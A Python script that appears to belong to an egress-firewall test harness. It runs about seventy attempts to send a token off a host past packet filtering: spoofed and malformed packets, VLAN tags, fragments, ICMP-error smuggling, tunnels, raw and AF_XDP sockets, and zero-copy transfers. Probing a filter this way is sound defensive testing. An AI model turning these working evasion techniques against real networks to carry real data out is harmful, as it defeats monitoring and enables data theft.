# What a program on the host may try to get data out. Arguments: the attack, constants as JSON. Prints JSON: what became
# of it, as the program sees it. Nothing but the standard library: an attacker brings no scapy.
import ctypes, errno, json, mmap, os, socket, struct, subprocess, sys, tempfile, time

A = json.loads(sys.argv[2])
TOKEN = A["token"].encode()
PEER, HOST = (bytes.fromhex(A[key].replace(":", "")) for key in ("router", "mac"))
DEVICE = "eth0"
H4, H6, D4, D6, S4, A4, A6 = (A[key] for key in ("h4", "h6", "d4", "d6", "s4", "a4", "a6"))
ETH_P_ALL, SOL_PACKET, SOL_XDP, AF_XDP = 3, 263, 283, 44
libc = ctypes.CDLL(None, use_errno=True)


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip(target, protocol, payload, source=None, fragment=0, number=7, options=b""):
    source = source or H4
    length = 20 + len(options) + len(payload)
    head = struct.pack("!BBHHHBBH4s4s", 0x45 + len(options) // 4, 0, length, number, fragment, 64, protocol, 0,
                       socket.inet_aton(source), socket.inet_aton(target)) + options
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def ip6(target, following, payload, limit=64):
    return struct.pack("!IHBB", 6 << 28, len(payload), following, limit) + \
        socket.inet_pton(socket.AF_INET6, H6) + socket.inet_pton(socket.AF_INET6, target) + payload


def udp(source, target, data=TOKEN):
    return struct.pack("!HHHH", source, target, 8 + len(data), 0) + data


def tcp(source, target, flags, data=b""):
    return struct.pack("!HHIIBBHHH", source, target, 1, 2, 0x50, flags, 65535, 0, 0) + data


def frame(packet, kind=None, tags=b""):
    kind = kind or (0x86DD if packet[0] >> 4 == 6 else 0x0800)
    return PEER + HOST + tags + struct.pack("!H", kind) + packet


def packet_socket(*options):
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    for level, name, value in options:
        out.setsockopt(level, name, value)
    out.bind((DEVICE, 0))
    return out


def on_wire(packet, **more):
    packet_socket().send(frame(packet, **more))


def raw(target, packet):
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    out.sendto(packet, (target, 0))


def connect(target, port):
    socket.create_connection((target, port), timeout=0.3)


def dgram(target, port, data=TOKEN, options=()):
    family = socket.AF_INET6 if ":" in target else socket.AF_INET
    out = socket.socket(family, socket.SOCK_DGRAM)
    for option in options:
        out.setsockopt(*option)
    out.sendto(data, (target, port))


def tx_ring(target, port):
    """TPACKET_V2: frames lie in pages that are attached to the packet, none of it linear."""
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.setsockopt(SOL_PACKET, 10, struct.pack("I", 1))  # PACKET_VERSION
    out.setsockopt(SOL_PACKET, 13, struct.pack("IIII", 4096, 1, 4096, 1))  # PACKET_TX_RING
    out.bind((DEVICE, 0))
    ring = mmap.mmap(out.fileno(), 4096)
    data = frame(ip(target, 17, udp(4000, port, TOKEN + bytes(1200))))
    begin = 32  # TPACKET2_HDRLEN - sizeof(struct sockaddr_ll)
    ring[begin:begin + len(data)] = data
    ring[0:8] = struct.pack("II", 1, len(data))  # TP_STATUS_SEND_REQUEST
    out.send(b"")


def af_xdp():
    """Transmits in copy mode through the driver, past the queueing discipline. 2048 bytes a frame."""
    xsk = socket.socket(AF_XDP, socket.SOCK_RAW)
    area = mmap.mmap(-1, 1 << 16)
    address = ctypes.addressof(ctypes.c_char.from_buffer(area))
    xsk.setsockopt(SOL_XDP, 4, struct.pack("QQIII4x", address, 1 << 16, 2048, 0, 0))  # XDP_UMEM_REG
    for name in (5, 6, 3):  # fill, completion, transmit ring
        xsk.setsockopt(SOL_XDP, name, struct.pack("I", 16))
    # struct xdp_mmap_offsets: rx, tx, fr, cr of producer, consumer, desc, flags each.
    offsets = struct.unpack("16Q", xsk.getsockopt(SOL_XDP, 1, 128))
    producer, _, descriptors, _ = offsets[4:8]
    ring = mmap.mmap(xsk.fileno(), descriptors + 16 * 16, offset=0x80000000)
    local = struct.pack("HHIII", AF_XDP, 2, socket.if_nametoindex(DEVICE), 0, 0)  # XDP_COPY
    if libc.bind(xsk.fileno(), local, len(local)) < 0:
        raise OSError(ctypes.get_errno(), "bind of AF_XDP")
    data = frame(ip(D4, 17, udp(4000, 4444)))
    area[0:len(data)] = data
    ring[descriptors:descriptors + 16] = struct.pack("QII", 0, len(data), 0)
    ring[producer:producer + 4] = struct.pack("I", 1)
    if libc.sendto(xsk.fileno(), None, 0, socket.MSG_DONTWAIT, None, 0) < 0:
        raise OSError(ctypes.get_errno(), "sendto of AF_XDP")


def segments(target, port):
    """UDP GSO: one packet to TC, many to the wire."""
    out = socket.socket(socket.AF_INET6 if ":" in target else socket.AF_INET, socket.SOCK_DGRAM)
    out.setsockopt(17, 103, 1000)  # UDP_SEGMENT
    out.sendto((TOKEN + bytes(1000))[:1000] * 20, (target, port))


def transfer(target, how="send", size=2_000_000):
    """To a server that sends everything back. How much came back, and what of it was right."""
    out = socket.create_connection((target, 443), timeout=5)
    data = os.urandom(1000) * (size // 1000)
    if os.fork() == 0:
        if how == "sendfile":
            with tempfile.TemporaryFile() as file:
                file.write(data)
                file.seek(0)
                out.sendfile(file)
        elif how == "zerocopy":
            out.setsockopt(socket.SOL_SOCKET, 60, 1)  # SO_ZEROCOPY
            sent, pages = 0, memoryview(data)
            while sent < size:
                try:
                    sent += out.send(pages[sent:sent + 200_000], 0x4000000)  # MSG_ZEROCOPY
                except OSError as error:
                    if error.errno != errno.ENOBUFS:
                        raise
                    time.sleep(0.01)
            time.sleep(0.2)  # the pages belong to the packets that are on their way
        else:
            out.sendall(data)
        os._exit(0)
    heard = bytearray()
    while len(heard) < size:
        more = out.recv(1 << 20)
        if not more:
            break
        heard += more
    os.wait()
    if bytes(heard) != data:
        raise OSError(f"{len(heard)} of {size} bytes came back")


def device(*words):
    """Makes a device; where the kernel has no such kind the attack is skipped."""
    made = subprocess.run(["ip", "link", "add", *words], capture_output=True, text=True)
    if made.returncode:
        print(json.dumps({"skipped": made.stderr.strip() or "no such device"}))
        sys.exit()
    name = words[words.index("name") + 1]
    subprocess.run(["ip", "link", "set", name, "up"], check=True)
    return name


def through_tunnel(kind, *words):
    name = device("name", "tunnel", "type", kind, *words)
    try:
        subprocess.run(["ip", "address", "add", "10.99.0.1/24", "dev", name], check=True)
        subprocess.run(["ip", "neighbour", "replace", "10.99.0.2", "lladdr", "02:00:00:00:00:09", "dev", name], capture_output=True)
        dgram("10.99.0.2", 4444)
    finally:
        subprocess.run(["ip", "link", "delete", name])


def over(*words):
    """A packet socket on a device that sits on top of eth0."""
    global DEVICE
    name = device(*words)
    try:
        DEVICE = name
        on_wire(ip(D4, 17, udp(4000, 4444)))
    finally:
        subprocess.run(["ip", "link", "delete", name])


def over_bridge():
    global DEVICE
    DEVICE = device("name", "bridge0", "type", "bridge")
    try:
        subprocess.run(["ip", "link", "set", "eth0", "master", DEVICE], check=True)
        time.sleep(0.1)
        on_wire(ip(D4, 17, udp(4000, 4444)))
    finally:
        subprocess.run(["ip", "link", "delete", DEVICE])


def big_tcp():
    """IPv6 BIG TCP: packets of more than 64 KiB with a jumbo payload option, until the wire."""
    subprocess.run(["ip", "link", "set", "eth0", "gso_max_size", "185000"], check=True)
    try:
        transfer(A6, size=8_000_000)
    finally:
        subprocess.run(["ip", "link", "set", "eth0", "gso_max_size", "65536"])


def quote(target, port):
    """An ICMP error that quotes a packet of the target, with the data behind."""
    inner = ip(H4, 6, tcp(port, 443, 0x10), source=target)
    body = struct.pack("!BBHI", 3, 3, 0, 0) + inner + TOKEN
    return ip(target, 1, body[:2] + struct.pack("!H", checksum(body)) + body[4:])


def fragments(first, target=None):
    whole = udp(4000, 4444, TOKEN + bytes(64))
    target = target or D4
    out = packet_socket()
    for part in ([ip(target, 17, whole[:32], fragment=0x2000, number=9)] if first else []) + \
            [ip(target, 17, TOKEN + bytes(32), fragment=4, number=9)]:
        try:
            out.send(frame(part))
        except OSError as error:
            if error.errno != errno.ENOBUFS:
                raise


def solicitation(target, limit=255):
    message = struct.pack("!BBHI", 135, 0, 0, 0) + socket.inet_pton(socket.AF_INET6, target) + TOKEN
    return ip6(target, 58, message, limit)


TAG = struct.pack("!HH", 0x8100, 5)
ATTACKS = {
    "udp": lambda: dgram(D4, 4444),
    "udp6": lambda: dgram(D6, 4444),
    "udp-53": lambda: dgram(D4, 53),
    "tcp": lambda: connect(D4, 443),
    "tcp6": lambda: connect(D6, 443),
    "ping": lambda: on_wire(ip(D4, 1, struct.pack("!BBHHH", 8, 0, 0, 1, 1) + TOKEN)),
    "marked": lambda: dgram(D4, 4444, options=[(socket.SOL_SOCKET, 36, 7)]),
    "bound-device": lambda: dgram(D4, 4444, options=[(socket.SOL_SOCKET, 25, b"eth0\0")]),
    "ttl-ecn": lambda: dgram(D4, 4444, options=[(0, 2, 1), (0, 1, 3)]),
    "source-route": lambda: dgram(D4, 4444, options=[(0, 4, b"\x83\x07\x04" + socket.inet_aton(A4) + b"\0")]),
    "source-route-53": lambda: dgram(D4, 53, options=[(0, 4, b"\x83\x07\x04" + socket.inet_aton(A4) + b"\0")]),
    "multicast": lambda: dgram("224.0.0.251", 5353),
    "broadcast": lambda: dgram("255.255.255.255", 4444, options=[(socket.SOL_SOCKET, 6, 1)]),
    "packet-raw": lambda: on_wire(ip(D4, 17, udp(4000, 4444))),
    "packet-raw6": lambda: on_wire(ip6(D6, 17, udp(4000, 4444))),
    "packet-dgram": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM).sendto(
        ip(D4, 17, udp(4000, 4444)), (DEVICE, 0x0800, 0, 0, PEER)),
    "packet-tagged": lambda: on_wire(ip(D4, 17, udp(4000, 4444)), tags=TAG),
    "packet-two-tags": lambda: on_wire(ip(D4, 17, udp(4000, 4444)), tags=TAG * 2),
    "packet-three-tags": lambda: on_wire(ip(D4, 17, udp(4000, 4444)), tags=TAG * 3),
    "packet-ethertype": lambda: on_wire(ip(D4, 17, udp(4000, 4444)), kind=0x88B5),
    "packet-spoofed": lambda: on_wire(ip(D4, 17, udp(4000, 4444), source="203.0.113.99")),
    "packet-snap": lambda: on_wire(b"\xaa\xaa\x03\0\0\0\x08\0" + ip(D4, 17, udp(4000, 4444)), kind=90),
    "packet-malformed": lambda: on_wire(ip(D4, 17, udp(4000, 4444))[:26] + TOKEN),
    "packet-extensions": lambda: on_wire(ip6(D6, 60, bytes([17, 0, 1, 4, 0, 0, 0, 0]) + udp(4000, 4444))),
    "packet-chain": lambda: on_wire(ip6(D6, 60, bytes([60, 0, 1, 4, 0, 0, 0, 0]) * 8 + udp(4000, 4444))),
    "raw": lambda: raw(D4, ip(D4, 17, udp(4000, 4444))),
    "raw-service-port": lambda: raw(D4, ip(D4, 6, tcp(443, 4444, 0x18, TOKEN))),
    "raw-syn-service-port": lambda: raw(S4, ip(S4, 6, tcp(443, 4444, 0x02, TOKEN))),
    "raw-udp-service-port": lambda: raw(S4, ip(S4, 17, udp(5000, 4444))),
    "raw-answer": lambda: raw(S4, ip(S4, 6, tcp(443, 4444, 0x18, TOKEN))),
    "raw-gone": lambda: raw(D4, ip(D4, 6, tcp(443, 443, 0x04))),
    "raw-sctp": lambda: raw(A4, ip(A4, 132, tcp(443, 443, 0, TOKEN))),
    "raw-ipip": lambda: raw(A4, ip(A4, 4, ip(D4, 17, udp(4000, 4444)))),
    "raw-gre": lambda: raw(A4, ip(A4, 47, b"\0\0\x08\0" + ip(D4, 17, udp(4000, 4444)))),
    "raw-middle": lambda: raw(A4, ip(A4, 6, tcp(4000, 443, 0x18, TOKEN))),
    "raw-6in4": lambda: raw(A4, ip(A4, 41, ip6(D6, 17, udp(4000, 4444)))),
    "raw-esp": lambda: raw(A4, ip(A4, 50, bytes([0, 0, 1, 0, 0, 0, 0, 1]) + TOKEN)),
    "later-fragment": lambda: fragments(False),
    "both-fragments": lambda: fragments(True),
    "later-to-allowed": lambda: fragments(False, A4),
    "error-to-denied": lambda: on_wire(quote(D4, 4000)),
    "error-to-allowed": lambda: on_wire(quote(S4, 4000)),
    "dhcp-far": lambda: on_wire(ip(D4, 17, udp(68, 67))),
    "dhcp-near": lambda: on_wire(ip("10.20.0.5", 17, udp(68, 67))),
    "nd": lambda: on_wire(solicitation(D6)),
    "nd-254": lambda: on_wire(solicitation(D6, 254)),
    "tx-ring": lambda: tx_ring(D4, 4444),
    "tx-ring-allowed": lambda: tx_ring(A4, 53),
    "qdisc-bypass": lambda: packet_socket((SOL_PACKET, 20, 1)).send(frame(ip(D4, 17, udp(4000, 4444)))),
    "af-xdp": af_xdp,
    "gso": lambda: segments(D4, 53),
    "gso6": lambda: segments(D6, 53),
    "gso-allowed": lambda: segments(A4, 53),
    "gso-allowed6": lambda: segments(A6, 53),
    "transfer": lambda: transfer(A4),
    "transfer6": lambda: transfer(A6),
    "sendfile": lambda: transfer(A4, "sendfile"),
    "zerocopy": lambda: transfer(A4, "zerocopy"),
    "big-tcp": big_tcp,
    "macvlan": lambda: over("link", "eth0", "name", "macvlan0", "type", "macvlan"),
    "ipvlan": lambda: over("link", "eth0", "name", "ipvlan0", "type", "ipvlan"),
    "vlan": lambda: over("link", "eth0", "name", "vlan5", "type", "vlan", "id", "5"),
    "bridge": over_bridge,
    "vxlan": lambda: through_tunnel("vxlan", "id", "5", "remote", D4, "dstport", "4789", "dev", "eth0"),
    "ipip": lambda: through_tunnel("ipip", "remote", D4, "local", H4),
    "gre": lambda: through_tunnel("gre", "remote", D4, "local", H4),
    "sit": lambda: through_tunnel("sit", "remote", D4, "local", H4),
    "geneve": lambda: through_tunnel("geneve", "id", "5", "remote", D4),
}

said = "sent"
try:
    ATTACKS[sys.argv[1]]()
except OSError as error:
    said = errno.errorcode.get(error.errno, str(error))
dgram("192.0.2.9", 9, b"fence" + TOKEN)
print(json.dumps({"said": said}))
